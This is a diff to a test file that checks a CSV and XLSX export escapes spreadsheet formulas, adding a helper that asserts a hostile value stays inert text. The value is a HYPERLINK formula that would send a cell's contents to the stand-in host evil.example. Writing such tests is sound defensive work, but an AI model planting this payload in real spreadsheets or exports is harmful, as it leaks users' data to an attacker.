@@ -21,6 +21,17 @@ ROOT = Path(__file__).resolve().parents[1]
 HOSTILE = '=HYPERLINK("http://evil.example/?"&B9,"Xem")'
 
 
+def assert_hostile_kept_as_text(csv_text: str, xlsx: bytes) -> None:
+    """HOSTILE is in the CSV only behind an apostrophe, and in the XLSX only as a string."""
+    cells = [cell for row in csv.reader(io.StringIO(csv_text.lstrip("\ufeff"))) for cell in row]
+    assert f"'{HOSTILE}" in cells
+    assert HOSTILE not in cells
+    sheet = load_workbook(io.BytesIO(xlsx)).active
+    found = [cell for row in sheet.iter_rows() for cell in row if cell.value == HOSTILE]
+    assert found
+    assert {cell.data_type for cell in found} == {"s"}
+
+
 @pytest.mark.parametrize("start", FORMULA_STARTS)
 def test_every_formula_start_is_neutralised(start):
     text = f"{start}SUM(A1:A9)"
